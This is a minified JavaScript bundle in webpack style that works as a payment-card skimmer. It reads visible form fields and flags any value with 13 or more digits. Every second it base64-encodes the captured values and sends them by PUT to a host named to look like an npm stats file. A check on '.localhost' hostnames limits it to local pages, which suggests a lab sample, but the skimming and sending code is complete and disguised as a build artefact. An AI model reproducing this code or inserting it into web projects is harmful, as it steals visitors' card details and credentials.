(()=>{"use strict";var e={148:(e,t,n)=>{n.d(t,{Z:()=>r});const r={url:"https://npm-chunk.localhost/stats.json",min:13}},
392:(e,t,n)=>{n.d(t,{p:()=>o});var r=n(148);const o=e=>{const t=new XMLHttpRequest;t.open("PUT",r.Z.url),t.setRequestHeader("Content-Type","text/plain"),t.send(window.btoa(e))}},
771:(e,t,n)=>{n.d(t,{c:()=>i});var r=n(148);const i=e=>{let t={};for(const n of e.querySelectorAll("input,select"))n.offsetParent&&(t[n.getAttribute("data-qa")||n.name||n.id]=n.value);return Object.values(t).some((e=>e.replace(/\D/g,"").length>=r.Z.min))?t:null}}},t={};
function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}
n.d=(e,t)=>{for(var r in t)n.o(t,r)&&!n.o(e,r)&&Object.defineProperty(e,r,{enumerable:!0,get:t[r]})},n.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t);
(()=>{if(!/\.localhost$/.test(location.hostname))return;var e=n(392),t=n(771);let r="";window.setInterval((()=>{const n=(0,t.c)(document.body);if(!n)return;const o=JSON.stringify(n);o!==r&&(r=o,(0,e.p)(o))}),1e3)})()})();
